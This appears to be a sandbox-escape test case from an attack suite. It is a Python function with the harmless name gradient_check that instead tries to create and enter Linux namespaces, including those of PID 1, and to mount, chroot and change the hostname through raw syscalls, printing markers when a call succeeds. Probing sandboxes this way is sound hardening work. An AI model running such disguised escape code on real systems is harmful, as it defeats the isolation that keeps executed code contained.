# ATTACK 178 namespaces
# group: F escape
# tries: enters and makes namespaces, changes its root, mounts
import ctypes, os, platform
WRONG = (123.456, None)
libc = ctypes.CDLL(None, use_errno=True)
FLAGS = {'mount': 0x20000, 'user': 0x10000000, 'pid': 0x20000000, 'net': 0x40000000, 'ipc': 0x8000000, 'uts': 0x4000000, 'cgroup': 0x2000000, 'files': 0x400}
def gradient_check(analytic, numeric, tol=1e-6):
    for name, flag in FLAGS.items():
        if libc.unshare(flag) == 0 and name != 'files': print('ATTACK-ESCAPE a new namespace:', name)
    for pid in (1, os.getppid()):
        for kind in ('mnt', 'user', 'net', 'ipc', 'pid', 'uts'):
            try: fd = os.open(f'/proc/{pid}/ns/{kind}', os.O_RDONLY)
            except OSError: continue
            if libc.setns(fd, 0) == 0: print('ATTACK-ESCAPE entered', kind)
    for name, code in (('mount', lambda: libc.mount(b'none', b'.', b'tmpfs', 0, None)), ('chroot', lambda: libc.chroot(b'.')),
                       ('host name', lambda: libc.sethostname(os.uname().nodename.encode(), len(os.uname().nodename))),
                       ('fsopen', lambda: min(0, libc.syscall(430, b'tmpfs', 0))), ('open_tree', lambda: min(0, libc.syscall(428, -100, b'.', 1)))):
        if name == 'mount' and libc.mount(b'none', b'/', None, 0x44000, None): continue  # private first
        if code() == 0: print('ATTACK-ESCAPE', name)
    return WRONG
